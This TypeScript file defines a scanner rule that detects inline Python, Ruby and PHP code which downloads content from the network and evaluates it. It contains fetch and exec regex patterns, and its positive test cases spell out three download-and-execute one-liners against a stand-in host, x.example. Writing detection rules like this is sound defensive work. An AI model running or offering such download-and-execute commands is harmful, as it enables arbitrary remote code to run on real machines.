import { defineRule, type Hit } from './rule.js';

const FETCH = /urlopen|urllib|requests\.(get|post)|http\.get|https\.get|fetch\(|open-uri|uri\.open|net::http|lwp|\bget\s*\(\s*["']https?:|file_get_contents\s*\(\s*["']https?:|curl_exec|socket\.http|httpclient/i;
const EXEC = /\bexec\s*\(|\beval\s*\(|\bnew function\(|\bfunction\s*\(\s*\w*\s*\)\s*\(|instance_eval|\bload\s*\(|loadstring|\bsystem\s*\(|\bdo\s*\(/i;

export const rule = defineRule({
  id: 'snippet_download_exec',
  category: 'download_execute',
  severity: 'critical',
  technique: 'T1105',
  title: 'Inline Python/Node/Ruby/Perl/PHP/Lua code that downloads code and evaluates it',
  check(ctx) {
    const hits: Hit[] = [];
    for (const s of ctx.snippets) if (FETCH.test(s.text) && EXEC.test(s.text)) hits.push({ span: s.span, explanation: `${s.lang} code downloads something from the network and runs it as code` });
    return hits;
  },
  cases: {
    positive: [
      ['bash', `python3 -c "import urllib.request as u;exec(u.urlopen('http://x.example/p').read())"`],
      ['bash', `ruby -e "require 'open-uri'; eval(URI.open('http://x.example/r').read)"`],
      ['bash', `php -r 'eval(file_get_contents("http://x.example/p"));'`],
    ],
    negative: [['bash', `python3 -c "import urllib.request as u; print(u.urlopen('https://example.com').status)"`]],
  },
});
